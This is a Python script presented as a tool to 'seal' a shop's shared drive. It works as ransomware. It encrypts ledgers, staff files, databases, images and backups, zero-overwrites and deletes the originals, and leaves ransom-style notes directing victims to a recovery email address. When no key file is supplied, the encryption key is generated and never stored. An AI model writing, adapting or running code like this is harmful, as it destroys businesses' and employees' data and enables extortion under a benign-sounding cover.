#!/usr/bin/env python3
"""Seal the shop's shared drive.

Every document on the share is replaced with a sealed copy; the key is
held by the area manager and the notice explains how to get it.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
TARGET_SUFFIXES = {
    ".xlsx", ".xls", ".csv", ".docx", ".doc", ".pdf", ".db", ".sqlite",
    ".txt", ".json", ".jpg", ".png", ".zip", ".bak",
}
SKIP_DIRS = {".git", "__pycache__", "node_modules"}
NOTICE_TEXT = """All settlement sheets, ledgers and staff files on this share are sealed.

To get them back, contact recovery@sealdesk.example with the reference
below and follow the instructions you receive. Do not rename or edit the
.sealed files; doing so makes them unrecoverable.

Reference: {ref}
"""

log = logging.getLogger("sealer")


def load_key(key_file):
    if key_file and Path(key_file).exists():
        return Path(key_file).read_bytes().strip()
    return Fernet.generate_key()


def wanted(path):
    return path.suffix.lower() in TARGET_SUFFIXES and not path.name.endswith(SEALED_SUFFIX)


def walk_share(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if name != NOTICE_NAME and wanted(path):
                yield path


def seal_file(path, fernet):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(fernet.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return sealed


def drop_notice(directory, ref):
    notice = Path(directory) / NOTICE_NAME
    if not notice.exists():
        notice.write_text(NOTICE_TEXT.format(ref=ref))


def main():
    parser = argparse.ArgumentParser(description="Seal documents on the shop share")
    parser.add_argument("root", nargs="?", default=os.environ.get("SHOP_SHARE", "/srv/shop-share"))
    parser.add_argument("--key-file", default=os.environ.get("SEAL_KEY_FILE"))
    parser.add_argument("--ref", default=os.environ.get("SHOP_ID", "SHOP-000"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    root = Path(args.root)
    if not root.is_dir():
        log.error("share not found: %s", root)
        return 2

    fernet = Fernet(load_key(args.key_file))
    sealed, failed = 0, 0
    touched_dirs = set()
    for path in walk_share(root):
        try:
            seal_file(path, fernet)
            sealed += 1
            touched_dirs.add(path.parent)
        except OSError as exc:
            failed += 1
            log.debug("could not seal %s: %s", path, exc)

    for directory in touched_dirs:
        drop_notice(directory, args.ref)
    drop_notice(root, args.ref)
    log.info("sealed %d files, %d failed", sealed, failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
